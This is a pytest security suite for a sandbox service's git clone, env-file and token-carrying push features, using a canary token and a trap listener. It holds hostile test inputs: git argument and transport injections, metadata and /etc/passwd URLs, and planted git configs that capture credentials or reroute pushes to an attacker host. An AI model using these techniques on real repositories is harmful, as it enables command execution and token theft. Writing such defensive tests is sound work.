"""Clone on create, the env and env-file conveniences, the server-side push, and secret hygiene,
against a real git server (``git http-backend`` behind basic auth, tests/support/gitserver.py)
in a network namespace of our own, with a canary token.

The service runs as a real process (its log is checked for the canary), allowed plain http://
to the test git server, which is the only host that may receive a token.
"""

from __future__ import annotations

import base64
import contextlib
import dataclasses
import json
import secrets
import shlex
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import docker
import pytest
from conftest import (
    SESSION_KEY,
    SESSION_PREFIX,
    Served,
    container_exists,
    free_loopback,
    launch,
    serve,
    stop_process,
    unique_name,
    volume_exists,
    wait_healthy,
)
from support.fakes import wait_until
from support.netns import SUPPORT, Listener, NetnsHost

pytestmark = pytest.mark.network

GIT_PREFIX = SESSION_PREFIX  # one bridge per allow-list per prefix: the address pool is small
CANARY = f"ghp_CANARY{secrets.token_hex(16)}"
WRONG = f"ghp_WRONGX{secrets.token_hex(16)}"
COMMIT = "git -c user.name=cst -c user.email=cst@example.invalid commit -q --allow-empty -m"
MARKERS = "/workspace/cst-markers"


def needles(token: str) -> list[bytes]:
    """Every form in which a leak of ``token`` would show: itself, its random part, and the
    basic-auth header value git would build from it."""
    basic = base64.b64encode(f"x-access-token:{token}".encode())
    return [token.encode(), token[10:].encode(), basic]


def leaks(data: bytes | str, token: str = CANARY) -> list[bytes]:
    raw = data.encode() if isinstance(data, str) else data
    return [needle for needle in needles(token) if needle in raw]


# ---------------------------------------------------------------------------------------------
# The git world: bare repositories, two git servers, a trap listener, the service
# ---------------------------------------------------------------------------------------------

def git(*args: str, cwd: Path | None = None) -> str:
    result = subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, check=False,
                            env={"PATH": "/usr/bin:/bin", "HOME": "/nonexistent",
                                 "GIT_CONFIG_NOSYSTEM": "1"})
    assert result.returncode == 0, (args, result.stderr)
    return result.stdout.strip()


@dataclasses.dataclass
class GitWorld:
    host: NetnsHost
    root: Path
    port: int  # the token host
    other_port: int  # plain http allowed, but not a token host
    log: Path
    other_log: Path
    trap: Listener
    node: Served
    template: str
    docker_api: docker.APIClient
    answers: list[Any] = dataclasses.field(default_factory=list)
    made: list[str] = dataclasses.field(default_factory=list)

    def url(self, repo: str, port: int | None = None) -> str:
        return f"http://{self.host.ip}:{port or self.port}/{repo}.git"

    def request(self, method: str, path: str, body: Any = None) -> tuple[int, Any]:
        status, reply = self.node.request(method, path, body)
        self.answers.append(reply)
        return status, reply

    def create(self, body: dict[str, Any]) -> tuple[int, Any]:
        self.made.append(body["name"])
        return self.request("POST", "/api/spaces", {"template": self.template, **body})

    def container(self, name: str) -> str:
        return f"{GIT_PREFIX}{name}"

    def head(self, repo: str, ref: str = "main") -> str | None:
        result = subprocess.run(["git", f"--git-dir={self.root / repo}.git", "rev-parse", "-q",
                                 "--verify", f"refs/heads/{ref}"], capture_output=True,
                                text=True, check=False)
        return result.stdout.strip() or None

    def server_log(self, other: bool = False) -> list[dict[str, Any]]:
        path = self.other_log if other else self.log
        if not path.exists():
            return []
        return [json.loads(line) for line in path.read_text().splitlines()]

    def sh(self, name: str, script: str, user: str = "", env: dict[str, str] | None = None,
           ok: bool = True) -> tuple[int, str]:
        """``sh -c script`` in space ``name`` straight through the engine."""
        exec_id = self.docker_api.exec_create(self.container(name), ["sh", "-c", script],
                                              user=user, environment=env)["Id"]
        output = self.docker_api.exec_start(exec_id).decode("utf-8", "replace")
        code = int(self.docker_api.exec_inspect(exec_id).get("ExitCode") or 0)
        if ok:
            assert code == 0, (script, output)
        return code, output

    def gone(self, name: str) -> bool:
        return not container_exists(self.docker_api, self.container(name)) and \
            not volume_exists(self.docker_api, f"{GIT_PREFIX}vol-{name}")


def slow_gate(root: Path) -> Path:
    """The file that lets the git servers answer the requests of priv-slow (until it exists,
    they hold them: a push to it runs as long as the test needs to watch it)."""
    return root.parent / "slow-gate"


def seed(root: Path, work: Path) -> None:
    """Bare repos public.git (main + feature), priv.git and priv-slow.git (main), from one
    history, all accepting pushes over HTTP."""
    git("init", "-q", "-b", "main", str(work))
    (work / "README").write_text("hello from the cst git server\n")
    git("add", "README", cwd=work)
    git("-c", "user.name=cst", "-c", "user.email=cst@example.invalid", "commit", "-q", "-m",
        "initial", cwd=work)
    git("checkout", "-q", "-b", "feature", cwd=work)
    (work / "FEATURE").write_text("feature branch\n")
    git("add", "FEATURE", cwd=work)
    git("-c", "user.name=cst", "-c", "user.email=cst@example.invalid", "commit", "-q", "-m",
        "feature", cwd=work)
    for repo in ("public", "priv", "priv-slow"):
        bare = root / f"{repo}.git"
        git("init", "-q", "--bare", "-b", "main", str(bare))
        git("config", "http.receivepack", "true", cwd=bare)
        refs = ["main", "feature"] if repo == "public" else ["main"]
        git("push", "-q", str(bare), *refs, cwd=work)


@pytest.fixture(scope="module")
def world(netns_host: NetnsHost, docker_api: docker.APIClient,
          tmp_path_factory: pytest.TempPathFactory) -> Iterator[GitWorld]:
    base = tmp_path_factory.mktemp("git")
    root = base / "repos"
    root.mkdir()
    seed(root, base / "work")
    ports = (netns_host.port(), netns_host.port())
    logs = (base / "server.jsonl", base / "other.jsonl")
    for port, log in zip(ports, logs, strict=True):
        netns_host.start([sys.executable, str(SUPPORT / "gitserver.py"), "--root", str(root),
                          "--port", str(port), "--log", str(log), "--private", "priv",
                          "--slow", "priv-slow", "--gate", str(slow_gate(root))],
                         env={"CST_GIT_PASSWORD": CANARY})
        netns_host.wait_port(port)
    trap = netns_host.listener()
    token_host = f"{netns_host.ip}:{ports[0]}"
    (base / "node").mkdir()
    with serve(base / "node", SESSION_KEY, GIT_PREFIX,
               CLAWDSPACE_GIT_HTTP_HOSTS=f"{token_host},{netns_host.ip}:{ports[1]}",
               CLAWDSPACE_GIT_TOKEN_HOSTS=token_host,
               CLAWDSPACE_USE_GH_TOKEN="false") as node:
        template = "cst-git"
        status, body = node.request("PUT", "/api/templates", {"yaml": (
            f"name: {template}\nresources:\n  memory: 256m\nnetwork:\n  mode: internet\n"
            f"  allowCidrs: [{netns_host.subnet}]\n")})
        assert status == 200, body
        world = GitWorld(netns_host, root, ports[0], ports[1], logs[0], logs[1], trap, node,
                         template, docker_api)
        yield world
        for name in world.made:
            node.request("DELETE", f"/api/spaces/{name}?removeVolume=true")


@pytest.fixture(scope="module")
def pusher(world: GitWorld) -> str:
    """A space that cloned the private repo with the canary token, with env and an env file."""
    name = unique_name("push")
    status, body = world.create({
        "name": name, "repoUrl": world.url("priv"), "env": {"GITHUB_TOKEN": CANARY, "FOO": "bar"},
        "envFileText": "A=1\nB='two words'\n", "envFilePath": "/workspace/config/app.env"})
    assert status == 201, body
    world.sh(name, f"mkdir -p {MARKERS}")
    return name


def no_markers(world: GitWorld, name: str) -> None:
    _, found = world.sh(name, f"ls -A {MARKERS}; ls -d /tmp/cst-marker* /tmp/fsmon-marker* "
                              "2>/dev/null; true")
    assert found.strip() == "", f"a trap ran during the push: {found!r}"


# ---------------------------------------------------------------------------------------------
# Clone on create
# ---------------------------------------------------------------------------------------------

def test_clone_public_repo_without_a_token(world: GitWorld) -> None:
    name = unique_name("pub")
    status, body = world.create({"name": name, "repoUrl": world.url("public")})
    assert status == 201, body
    _, out = world.sh(name, "cat /workspace/repo/README; stat -c '%U' /workspace/repo/README; "
                            "git -C /workspace/repo remote get-url origin; "
                            "git -C /workspace/repo rev-parse --abbrev-ref HEAD")
    assert out.splitlines() == ["hello from the cst git server", "sandbox", world.url("public"),
                                "main"]
    assert all(entry["auth"] == "none" for entry in world.server_log()
               if entry["path"].startswith("/public.git")), "credentials sent to a public repo"


def test_clone_branch_into_a_destination(world: GitWorld) -> None:
    name = unique_name("dest")
    status, body = world.create({"name": name, "repoUrl": world.url("public"),
                                 "repoBranch": "feature", "repoDest": "src/app"})
    assert status == 201, body
    _, out = world.sh(name, "cat /workspace/src/app/FEATURE; "
                            "git -C /workspace/src/app rev-parse --abbrev-ref HEAD; "
                            "test ! -e /workspace/repo && echo no-default")
    assert out.splitlines() == ["feature branch", "feature", "no-default"]


def test_template_default_repo_dest(world: GitWorld) -> None:
    template = f"cst-git-code-{secrets.token_hex(2)}"
    status, body = world.request("PUT", "/api/templates", {"yaml": (
        f"name: {template}\nworkspace:\n  defaultRepoDest: code/main\nnetwork:\n"
        f"  allowCidrs: [{world.host.subnet}]\n")})
    assert status == 200, body
    name = unique_name("code")
    world.made.append(name)
    status, body = world.request("POST", "/api/spaces", {
        "name": name, "template": template, "memory": "256m", "repoUrl": world.url("public")})
    assert status == 201, body
    _, out = world.sh(name, "cat /workspace/code/main/README")
    assert out == "hello from the cst git server\n"
    world.request("DELETE", f"/api/templates/{template}")


def test_clone_private_repo_with_the_token(world: GitWorld, pusher: str) -> None:
    _, out = world.sh(pusher, "cat /workspace/repo/README; git -C /workspace/repo remote get-url "
                              "origin; printenv FOO; printenv GITHUB_TOKEN || echo no-token")
    assert out.splitlines() == ["hello from the cst git server", world.url("priv"), "bar",
                                "no-token"]
    info = world.docker_api.inspect_container(world.container(pusher))
    env = info["Config"]["Env"] or []
    assert "FOO=bar" in env
    assert not [e for e in env if e.startswith(("GITHUB_TOKEN=", "GH_TOKEN="))], env
    assert not leaks(json.dumps(info)), "the token is in docker inspect of the space"
    _, config = world.sh(pusher, "cat /workspace/repo/.git/config")
    assert not leaks(config) and "@" not in config, config
    clone = [e for e in world.server_log() if e["path"].startswith("/priv.git")]
    assert any(e["auth"] == "ok" for e in clone), clone


def test_clone_private_repo_without_a_token_fails_cleanly(world: GitWorld) -> None:
    name = unique_name("notok")
    status, body = world.create({"name": name, "repoUrl": world.url("priv")})
    assert status == 400, body
    assert body["code"] == "clone_failed" and body["error"].startswith("Repo clone failed"), body
    assert world.gone(name), "a failed clone left the container or the volume behind"


def test_clone_with_a_wrong_token_fails_and_leaves_nothing(world: GitWorld) -> None:
    name = unique_name("wrong")
    status, body = world.create({"name": name, "repoUrl": world.url("priv"),
                                 "env": {"GITHUB_TOKEN": WRONG}})
    assert status == 400, body
    assert body["code"] == "clone_failed" and body["error"].startswith("Repo clone failed"), body
    assert not leaks(json.dumps(body), WRONG), body
    assert world.gone(name)


def test_token_goes_only_to_token_hosts(world: GitWorld) -> None:
    name = unique_name("other")
    before = len(world.server_log(other=True))
    status, body = world.create({"name": name, "repoUrl": world.url("priv", world.other_port),
                                 "env": {"GITHUB_TOKEN": CANARY}})
    assert status == 400, body  # the server wants a password; this host may not get the token
    assert world.gone(name)
    requests = world.server_log(other=True)[before:]
    assert requests, "the clone never reached the second server"
    assert all(entry["auth"] == "none" for entry in requests), requests


BAD_URLS = [
    "ext::sh -c touch% /tmp/cst-pwn", "ext::sh -c 'touch /tmp/cst-pwn'", "fd::17", "fd::3,4",
    "file:///etc", "file://localhost/etc/passwd", "FILE:///etc", "/etc", "/workspace/repo",
    "/var/lib/docker/volumes", "./repo", "../repo", "repo", "-u",
    "--upload-pack=touch /tmp/cst-pwn",
    "-c core.sshCommand=touch", "--template=/tmp", "http://{ip}:{trap}/priv.git",
    "http://{ip}/priv.git", "http://127.0.0.1:{port}/priv.git", "http://169.254.169.254/latest/x",
    "http://user:pw@{ip}:{port}/priv.git", "https://user:pw@github.com/o/r",
    "https://x-access-token:{canary}@github.com/o/r", "https://:{canary}@github.com/o/r",
    "git@github.com:owner/repo.git", "git@{ip}:priv.git", "ssh://-oProxyCommand=touch%20/tmp/x/r",
    "ssh://git@github.com/o/r", "git://github.com/o/r", "ftp://github.com/o/r", "https://",
    "https:///o/r", "https://github.com", "https://github.com/", "https://github.com/o/r x",
    "https://github.com/o/r\nx", "https://github.com/o/r\tx", " https://github.com/o/r", "",
    "https://github.com/" + "a" * 3000, "HTTP://{ip}:{trap}/priv.git", 5, ["https://github.com/o"],
    {"url": "https://github.com/o/r"}, True,
]


def test_bad_repo_urls_are_refused_before_anything_is_made(world: GitWorld) -> None:
    log_before = (len(world.server_log()), len(world.server_log(other=True)),
                  world.trap.connections())
    started = int(time.time()) - 1
    names = []
    for raw in BAD_URLS:
        url = raw.format(ip=world.host.ip, port=world.port, trap=world.trap.port,
                         canary=CANARY) if isinstance(raw, str) else raw
        name = unique_name("badurl")
        names.append(name)
        status, body = world.create({"name": name, "repoUrl": url})
        assert status == 400, (url, body)
        assert body["code"] != "clone_failed", (url, body)  # refused up front, not after a try
        assert not leaks(json.dumps(body)), body
    events = world.docker_api.events(since=started, until=int(time.time()) + 1, decode=True)
    touched = [e for e in events if any(
        n in json.dumps(e.get("Actor", {})) for n in names)]
    assert touched == [], touched
    assert all(world.gone(name) for name in names)
    assert (len(world.server_log()), len(world.server_log(other=True)),
            world.trap.connections()) == log_before
    assert not Path("/tmp/cst-pwn").exists()


@pytest.mark.parametrize(("field", "value"), [
    ("repoBranch", "-x"), ("repoBranch", "--upload-pack=touch /tmp/cst-pwn"),
    ("repoBranch", "a..b"), ("repoBranch", "a b"), ("repoBranch", "a;b"), ("repoBranch", "/abs"),
    ("repoBranch", "x.lock"), ("repoBranch", "a@{1}"), ("repoBranch", ""), ("repoBranch", 5),
    ("repoBranch", "a\nb"), ("repoBranch", "main\n"), ("repoBranch", "$(id)"),
    ("repoBranch", "a:b"),
    ("repoDest", "../x"), ("repoDest", "/abs"), ("repoDest", "a/../../x"), ("repoDest", "."),
    ("repoDest", ""), ("repoDest", "-x"), ("repoDest", "a//b"), ("repoDest", "x/"),
    ("repoDest", "/workspace/x"), ("repoDest", 5), ("repoDest", "a\x00b"), ("repoDest", "x\n"),
])
def test_bad_branch_and_destination(world: GitWorld, field: str, value: Any) -> None:
    name = unique_name("badref")
    status, body = world.create({"name": name, "repoUrl": world.url("public"), field: value})
    assert status == 400, body
    assert field in body["code"] or field in body["error"], body
    assert world.gone(name)


def test_branch_or_destination_without_a_url(world: GitWorld) -> None:
    for field, value in (("repoBranch", "main"), ("repoDest", "x")):
        name = unique_name("nourl")
        status, body = world.create({"name": name, field: value})
        assert status == 400, body
        assert world.gone(name)


def test_no_clone_without_network(world: GitWorld) -> None:
    for extra in ({"template": "offline"}, {"network": "none"}):
        name = unique_name("nonet")
        started = int(time.time()) - 1
        status, body = world.create({"name": name, "repoUrl": world.url("public"), **extra})
        assert status == 400, (extra, body)
        assert body["code"] == "clone_needs_network", body
        events = world.docker_api.events(since=started, until=int(time.time()) + 1, decode=True)
        assert not [e for e in events if name in json.dumps(e.get("Actor", {}))]
        assert world.gone(name)


# ---------------------------------------------------------------------------------------------
# env and the env file
# ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("env", [
    {"1A": "x"}, {"A-B": "x"}, {"A B": "x"}, {"": "x"}, {"A=B": "x"}, {"A\nB": "x"},
    {"$(id)": "x"}, {"A\n": "x"}, {"OK": 5}, {"OK": None}, {"OK": "a\x00b"}, {"OK": ["x"]},
    ["A=1"], "A=1",
])
def test_env_is_validated(world: GitWorld, env: Any) -> None:
    name = unique_name("env")
    status, body = world.create({"name": name, "env": env})
    assert status == 400, (env, body)
    assert body["code"] == "invalid_env", body
    assert world.gone(name)


def test_env_file_text_lands_exactly_with_mode_600(world: GitWorld, pusher: str) -> None:
    _, out = world.sh(pusher, "stat -c '%a %U %G %s' /workspace/config/app.env; "
                              "cat /workspace/config/app.env; ls -A /workspace/config")
    assert out == "600 sandbox sandbox 18\nA=1\nB='two words'\napp.env\n", out


def test_env_file_base64_default_path(world: GitWorld) -> None:
    content = bytes(range(256)) + b"KEY=value\n"
    name = unique_name("b64")
    status, body = world.create({"name": name, "network": "none",
                                 "envFileBase64": base64.b64encode(content).decode()})
    assert status == 201, body
    _, out = world.sh(name, "stat -c '%a %U' /workspace/.env; base64 -w0 /workspace/.env")
    mode, data = out.split("\n", 1)
    assert mode == "600 sandbox"
    assert base64.b64decode(data) == content


@pytest.mark.parametrize("body", [
    {"envFileText": "A=1", "envFileBase64": "QT0x", "envFilePath": "/workspace/.env"},
    {"envFileText": "A=1", "envFilePath": "/etc/cst-env"},
    {"envFileText": "A=1", "envFilePath": "../cst-env"},
    {"envFileText": "A=1", "envFilePath": "/workspace/../etc/cst-env"},
    {"envFileText": "A=1", "envFilePath": "/workspace"},
    {"envFileText": "A=1", "envFilePath": "/workspace/"},
    {"envFileText": "A=1", "envFilePath": "/"},
    {"envFileText": "A=1", "envFilePath": "/tmp/cst-env"},
    {"envFileText": "A=1", "envFilePath": 5},
    {"envFileText": "A=1", "envFilePath": "/workspace/a\x00b"},
    {"envFileBase64": "!!!not base64!!!", "envFilePath": "/workspace/.env"},
    {"envFileBase64": "QT0", "envFilePath": "/workspace/.env"},
    {"envFileBase64": 5},
    {"envFileText": 5},
    {"envFilePath": "/workspace/.env"},
])
def test_env_file_errors(world: GitWorld, body: dict[str, Any]) -> None:
    name = unique_name("envf")
    status, reply = world.create({"name": name, "network": "none", **body})
    assert status in (400, 403), (body, reply)
    assert world.gone(name)
    assert not Path("/etc/cst-env").exists() and not Path("/tmp/cst-env").exists()


# ---------------------------------------------------------------------------------------------
# Push
# ---------------------------------------------------------------------------------------------

def commit(world: GitWorld, name: str, repo: str, message: str) -> str:
    _, out = world.sh(name, f"cd {repo} && {COMMIT} {shlex.quote(message)} && git rev-parse HEAD")
    return out.strip().splitlines()[-1]


def push(world: GitWorld, name: str, **body: Any) -> tuple[int, Any]:
    return world.request("POST", f"/api/spaces/{name}/git/push", body)


def push_events(world: GitWorld, name: str) -> list[dict[str, Any]]:
    path = world.node.data_dir / "audit.jsonl"
    return [e for e in map(json.loads, path.read_text().splitlines())
            if e["type"] == "space.git.push" and e.get("space") == name]


def test_push_with_the_token_arrives(world: GitWorld, pusher: str) -> None:
    sha = commit(world, pusher, "/workspace/repo", "pushed by clawdspace")
    status, body = push(world, pusher, repoPath="/repo", remote="origin", branch="main",
                        token=CANARY)
    assert status == 200, body
    assert {"stdout", "stderr", "exitCode"} <= set(body)
    assert body["exitCode"] == 0, body
    assert world.head("priv") == sha
    assert not leaks(json.dumps(body))
    assert push_events(world, pusher)[-1]["meta"] == {
        "repoPath": "/repo", "remote": "origin", "branch": "main", "exitCode": 0}

    sha = commit(world, pusher, "/workspace/repo", "second, by its /workspace path")
    status, body = push(world, pusher, repoPath="/workspace/repo", branch="main", token=CANARY)
    assert status == 200 and body["exitCode"] == 0, body
    assert world.head("priv") == sha


def test_push_leaves_no_copy_behind(world: GitWorld, pusher: str) -> None:
    commit(world, pusher, "/workspace/repo", "one more")
    status, body = push(world, pusher, repoPath="/repo", branch="main", token=CANARY)
    assert status == 200 and body["exitCode"] == 0, body
    _, left = world.sh(pusher, "ls -A /tmp", user="0")
    assert "clawdspace-push" not in left, f"the push's temporary copy was left in /tmp: {left!r}"


def test_push_with_a_wrong_or_no_token_fails(world: GitWorld, pusher: str) -> None:
    before = world.head("priv")
    commit(world, pusher, "/workspace/repo", "must not arrive")
    status, body = push(world, pusher, repoPath="/repo", branch="main", token=WRONG)
    assert status == 200, body
    assert body["exitCode"] != 0, body
    assert not leaks(json.dumps(body), WRONG), body
    assert push_events(world, pusher)[-1]["meta"]["exitCode"] == body["exitCode"]
    status, body = push(world, pusher, repoPath="/repo", branch="main")
    assert status == 200 and body["exitCode"] != 0, body
    assert world.head("priv") == before
    world.sh(pusher, "git -C /workspace/repo reset -q --hard HEAD~1")


@pytest.mark.parametrize("body", [
    {"remote": "-x"}, {"remote": "a;b"}, {"remote": "../.."}, {"remote": ""}, {"remote": 5},
    {"remote": "--receive-pack=touch /tmp/cst-pwn"}, {"remote": "upstream"},
    {"branch": "-x"}, {"branch": "a..b"}, {"branch": "a;b"}, {"branch": "a b"},
    {"branch": "--force"}, {"branch": "main:refs/heads/x"}, {"branch": "+main"}, {"branch": ""},
    {"branch": "$(id)"}, {"branch": 5}, {"branch": "main\n"}, {"remote": "origin\n"},
    {"repoPath": "../.."}, {"repoPath": "/etc"}, {"repoPath": "/workspace/../etc"},
    {"repoPath": "/../../etc"}, {"repoPath": "/no-such-repo"}, {"repoPath": "/config/app.env"},
    {"repoPath": 5}, {"repoPath": "/repo\x00x"},
    {"token": 5}, {"token": ""}, {"token": "a\nb"}, {"extra": 1},
])
def test_push_validation(world: GitWorld, pusher: str, body: dict[str, Any]) -> None:
    before = len(push_events(world, pusher))
    request = {"repoPath": "/repo", "remote": "origin", "branch": "main", "token": CANARY, **body}
    status, reply = push(world, pusher, **request)
    assert status in (400, 403, 404), (body, reply)
    assert not leaks(json.dumps(reply))
    assert len(push_events(world, pusher)) == before, "a refused push was run"
    assert not Path("/tmp/cst-pwn").exists()


@pytest.mark.parametrize("url", [
    "ext::sh -c touch% /workspace/cst-markers/ext", "file:///workspace/repo", "/workspace/repo",
    "http://{ip}:{trap}/priv.git", "http://x:{wrong}@{ip}:{port}/priv.git",
    "git@github.com:o/r.git", "-oProxyCommand=touch", "--upload-pack=touch /tmp/cst-pwn",
])
def test_push_refuses_a_bad_remote_url(world: GitWorld, pusher: str, url: str) -> None:
    url = url.format(ip=world.host.ip, trap=world.trap.port, port=world.port, wrong=WRONG)
    connections = world.trap.connections()
    world.sh(pusher, 'cd /workspace/repo && (git config --remove-section remote.evil; true) && '
                     'printf \'[remote "evil"]\\n\\turl = %s\\n\' "$URL" >> .git/config && '
                     'test "$(git config --get remote.evil.url)" = "$URL"', env={"URL": url})
    try:
        status, body = push(world, pusher, repoPath="/repo", remote="evil", branch="main",
                            token=CANARY)
    finally:
        world.sh(pusher, "git -C /workspace/repo config --remove-section remote.evil")
    assert status == 400, body
    assert not leaks(json.dumps(body))
    assert world.trap.connections() == connections
    no_markers(world, pusher)


def trap_setup(world: GitWorld, kind: str) -> str:
    """Shell that plants trap ``kind`` in the current repository (or the user's git config)."""
    trap = f"http://{world.host.ip}:{world.trap.port}"
    real = f"http://{world.host.ip}:{world.port}/"
    hook = f"#!/bin/sh\ntouch {MARKERS}/hook-$(basename $0)\ncat >/dev/null\nexit 0\n"
    write_hooks = (f"mkdir -p {{d}} && for h in pre-push reference-transaction post-update "
                   f"push-to-checkout post-checkout; do printf %s {shlex.quote(hook)} > {{d}}/$h; "
                   f"chmod +x {{d}}/$h; done")
    stolen = f"!sh -c 'cat > {MARKERS}/stolen-$0'"
    askpass = f"printf '#!/bin/sh\\ntouch {MARKERS}/askpass\\necho x\\n' > /workspace/askpass.sh"
    evil_cfg = (f"[core]\n\tfsmonitor = touch {MARKERS}/include-fsmonitor\n"
                f"[credential]\n\thelper = {stolen}\n[http]\n\tproxy = {trap}\n"
                f"[url \"{trap}/\"]\n\tinsteadOf = {real}\n")
    setups = {
        "fsmonitor": "git config core.fsmonitor 'touch /tmp/fsmon-marker'",
        "hooks": write_hooks.format(d=".git/hooks"),
        "hooksPath": write_hooks.format(d="/workspace/evil-hooks")
        + " && git config core.hooksPath /workspace/evil-hooks",
        "credential-helper": f"git config credential.helper {shlex.quote(stolen)}",
        "insteadOf": f"git config url.{trap}/.insteadOf {real}",
        "pushInsteadOf": f"git config url.{trap}/.pushInsteadOf {real}",
        "pushurl": f"git config remote.origin.pushurl {trap}/priv.git",
        "http-proxy": f"git config http.proxy {trap}",
        "include": f"printf %s {shlex.quote(evil_cfg)} > /workspace/evil.cfg && "
                   "git config include.path /workspace/evil.cfg",
        "askpass": f"{askpass} && chmod +x /workspace/askpass.sh && "
                   "git config core.askPass /workspace/askpass.sh",
        "ssh-command": f"git config core.sshCommand 'touch {MARKERS}/ssh'",
        "pack-objects-hook": f"git config uploadpack.packObjectsHook 'touch {MARKERS}/pack; git'",
        # The sandbox user's own git configuration is under the sandbox's control just as much.
        "global-http-proxy": f"git config --global http.proxy {trap}",
        "global-insteadOf": f"git config --global url.{trap}/.insteadOf {real}",
        "global-hooksPath": write_hooks.format(d="/workspace/evil-hooks")
        + " && git config --global core.hooksPath /workspace/evil-hooks",
        "global-credential-helper": f"git config --global credential.helper {shlex.quote(stolen)}",
        "global-pack-objects-hook":
            f"git config --global uploadpack.packObjectsHook 'touch {MARKERS}/pack; git'",
        "global-include": f"printf %s {shlex.quote(evil_cfg)} > /workspace/evil.cfg && "
                          "git config --global include.path /workspace/evil.cfg",
        "xdg-http-proxy": f"mkdir -p ~/.config/git && printf '[http]\\n\\tproxy = {trap}\\n' "
                          "> ~/.config/git/config",
    }
    return setups[kind]


TRAPS = ["fsmonitor", "hooks", "hooksPath", "credential-helper", "insteadOf", "pushInsteadOf",
         "pushurl", "http-proxy", "include", "askpass", "ssh-command", "pack-objects-hook",
         "global-http-proxy", "global-insteadOf", "global-hooksPath", "global-credential-helper",
         "global-pack-objects-hook", "global-include", "xdg-http-proxy"]


@pytest.mark.parametrize("kind", TRAPS)
def test_push_from_a_trapped_repo(world: GitWorld, pusher: str, kind: str) -> None:
    branch = f"trap-{kind.lower()}"
    repo = f"/workspace/{branch}"
    _, out = world.sh(pusher, (
        f"rm -rf {repo} {MARKERS} /workspace/evil* /tmp/fsmon-marker* && mkdir -p {MARKERS} && "
        f"git clone -q /workspace/repo {repo} && cd {repo} && "
        f"git remote set-url origin {world.url('priv')} && git checkout -q -b {branch} && "
        f"{COMMIT} 'trap {kind}' && git rev-parse HEAD && {trap_setup(world, kind)}"))
    sha = out.split()[0]
    connections, events = world.trap.connections(), len(world.trap.events())
    try:
        status, body = push(world, pusher, repoPath=f"/{branch}", remote="origin", branch=branch,
                            token=CANARY)
    finally:
        _, after = world.sh(pusher, (
            f"rm -f ~/.gitconfig ~/.config/git/config; ls -A {MARKERS}; "
            f"ls -d /tmp/cst-marker* /tmp/fsmon-marker* 2>/dev/null; "
            f"cat {MARKERS}/stolen* 2>/dev/null; true"))
    assert status == 200, body
    assert not leaks(json.dumps(body))
    assert after.strip() == "", f"a trap ran during the push: {after!r}"
    assert world.trap.connections() == connections, \
        f"the push went to the trap listener: {world.trap.events()[events:]}"
    assert not leaks(world.trap.received(events)), "the token reached the trap listener"
    assert body["exitCode"] == 0, body
    assert world.head("priv", branch) == sha, "the commit did not arrive at the validated remote"


# ---------------------------------------------------------------------------------------------
# Secret hygiene: the canary, through clone and a slow push, is nowhere it must not be
# ---------------------------------------------------------------------------------------------

def cgroup_procs(docker_api: docker.APIClient, container: str) -> Path:
    """The cgroup.procs file listing every process of ``container`` (execs included)."""
    pid = docker_api.inspect_container(container)["State"]["Pid"]
    lines = Path(f"/proc/{pid}/cgroup").read_text().splitlines()
    for line in lines:
        _, controllers, path = line.split(":", 2)
        if "pids" in controllers.split(","):
            return Path("/sys/fs/cgroup/pids") / path.lstrip("/") / "cgroup.procs"
    for line in lines:
        if line.startswith("0::"):
            return Path("/sys/fs/cgroup") / line[3:].lstrip("/") / "cgroup.procs"
    raise AssertionError(f"no cgroup for {container}: {lines}")


class ArgvSampler(threading.Thread):
    """Reads the argv of every process of a container every ``interval`` seconds."""

    def __init__(self, procs: Path, interval: float = 0.02) -> None:
        super().__init__(daemon=True)
        self.procs = procs
        self.interval = interval
        self.stop = threading.Event()
        self.samples = 0
        self.seen: set[bytes] = set()

    def run(self) -> None:
        while not self.stop.is_set():
            try:
                pids = self.procs.read_text().split()
            except OSError:
                pids = []
            for pid in pids:
                try:
                    self.seen.add(Path(f"/proc/{pid}/cmdline").read_bytes())
                except OSError:
                    continue
            self.samples += 1
            time.sleep(self.interval)


def saw_git(seen: set[bytes]) -> bool:
    """Is a git push among these argvs (NUL-separated, as /proc/PID/cmdline has them)?"""
    argv = [cmd.replace(b"\0", b" ") for cmd in seen]
    return any(b"remote-http" in cmd or b"git push" in cmd or b" push " in cmd for cmd in argv)


def test_secret_hygiene(world: GitWorld, pusher: str) -> None:
    container = world.container(pusher)
    world.sh(pusher, f"cd /workspace/repo && (git remote remove slow 2>/dev/null; true) && "
                     f"git remote add slow {world.url('priv-slow')}")
    sha = commit(world, pusher, "/workspace/repo", "slow push")
    sampler = ArgvSampler(cgroup_procs(world.docker_api, container))
    gate = slow_gate(world.root)
    gate.unlink(missing_ok=True)
    sampler.start()
    answer: list[tuple[int, Any]] = []
    pushing = threading.Thread(target=lambda: answer.append(push(
        world, pusher, repoPath="/repo", remote="slow", branch="main", token=CANARY)))
    pushing.start()
    try:
        # The server holds the push until the sampler has watched git run for 50 samples.
        wait_until(lambda: sampler.samples > 50 and saw_git(sampler.seen.copy()), timeout=120,
                   what="the sampler watched the push run")
    finally:
        gate.touch()
        pushing.join()
        gate.unlink()  # closed again for whoever uses priv-slow next
        sampler.stop.set()
        sampler.join()
    [(status, body)] = answer
    assert status == 200 and body["exitCode"] == 0, body
    assert world.head("priv-slow") == sha
    assert sampler.samples > 50, sampler.samples
    argv = [cmd.replace(b"\0", b" ") for cmd in sampler.seen]
    assert saw_git(sampler.seen), f"the sampler never saw git run: {argv}"
    assert not [cmd for cmd in argv if leaks(cmd)], "the token was in a process's argv"

    # Nowhere at rest: the audit log, the service log, docker inspect, the space's files.
    assert not leaks((world.node.data_dir / "audit.jsonl").read_bytes()), "audit log"
    assert not leaks(world.node.log()), "service log"
    for name in world.made:
        if container_exists(world.docker_api, world.container(name)):
            info = world.docker_api.inspect_container(world.container(name))
            assert not leaks(json.dumps(info)), f"docker inspect of {name}"
    _, configs = world.sh(pusher, "find /workspace -path '*/.git/config' -exec cat {} +",
                          user="0")
    assert "[remote" in configs and not leaks(configs), ".git/config"
    for needle in needles(CANARY):
        code, hits = world.sh(pusher, 'grep -rlsaF -e "$NEEDLE" /workspace /tmp /home /run',
                              user="0", env={"NEEDLE": needle.decode()}, ok=False)
        assert code != 0 and hits == "", f"the token is in the space's files: {hits}"
    # Every answer this module got from the service.
    assert not leaks(json.dumps(world.answers)), "an API answer"
    events = push_events(world, pusher)
    assert events and events[-1]["meta"] == {"repoPath": "/repo", "remote": "slow",
                                             "branch": "main", "exitCode": 0}


# ---------------------------------------------------------------------------------------------
# A create killed mid-clone is undone when the service comes back
